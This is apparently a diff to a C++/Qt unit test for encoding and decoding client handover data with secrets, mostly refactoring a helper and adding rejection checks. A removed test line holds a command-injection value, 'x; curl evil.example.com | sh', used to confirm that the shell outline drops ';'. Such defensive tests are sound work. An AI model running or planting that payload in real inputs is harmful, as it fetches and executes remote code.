@@ -15,11 +15,6 @@ using clientconfig::Carrier;
 
 namespace {
 
-QByteArray bytesOf(const Secret &secret)
-{
-    return secret.reveal([](QByteArrayView bytes) { return bytes.toByteArray(); });
-}
-
 /// For a client of this type, with everything that can be chosen.
 Handover sampleOf(const integrations::ClientType &type, bool isFull)
 {
@@ -46,7 +41,7 @@ Handover thereAndBack(const Handover &handover)
 /// The content with one entry in place of another; without it where the value is null.
 Secret with(const Handover &handover, const QByteArray &name, const QByteArray &value)
 {
-    const QByteArray content = bytesOf(encode(handover));
+    const QByteArray content = test::bytesOf(encode(handover));
     const auto entryOf = [&name](const QByteArray &of) -> QByteArray {
         const auto size = static_cast<quint32>(of.size());
         return static_cast<char>(name.size()) + name
@@ -85,7 +80,7 @@ private Q_SLOTS:
                         QCOMPARE(other->error(), one->error());
                         continue;
                     }
-                    QCOMPARE(bytesOf((*other)->text), bytesOf((*one)->text));
+                    QCOMPARE(test::bytesOf((*other)->text), test::bytesOf((*one)->text));
                     QCOMPARE((*other)->fileName, (*one)->fileName);
                     QCOMPARE((*other)->commands.apply, (*one)->commands.apply);
                     ++compared;
@@ -202,19 +197,18 @@ private Q_SLOTS:
             sample.draft.place.name = QString::fromLatin1(name);
             QVERIFY2(!decode(encode(sample)), name);
             sample = test::handoverSample();
+            sample.draft.place.base = QString::fromLatin1(name);
+            QVERIFY2(!decode(encode(sample)), name);
+            sample = test::handoverSample();
             sample.draft.place.beside = clientconfig::RunningClient{
                 QString::fromLatin1(name), 8000, QString(sample.draft.type.key)};
             QVERIFY2(!decode(encode(sample)), name);
         }
-        Handover sample = test::handoverSample();
-        sample.draft.place.base = QStringLiteral("x; curl evil.example.com | sh");
-        const auto read = decode(encode(sample));
-        QVERIFY(!read || !clientconfig::outlineOf(Carrier::DockerShell, read->draft).name.contains(u';'));
     }
 
     void tornContentIsRefused()
     {
-        const QByteArray content = bytesOf(encode(test::handoverSample()));
+        const QByteArray content = test::bytesOf(encode(test::handoverSample()));
         for (qsizetype size = 0; size < content.indexOf("secret.gitlabToken"); ++size)
             QVERIFY2(!decode(Secret::take(content.first(size))), qPrintable(QString::number(size)));
         QVERIFY(!decode(Secret::take(QByteArray("\x05token\xff\xff\xff\xff", 10))));
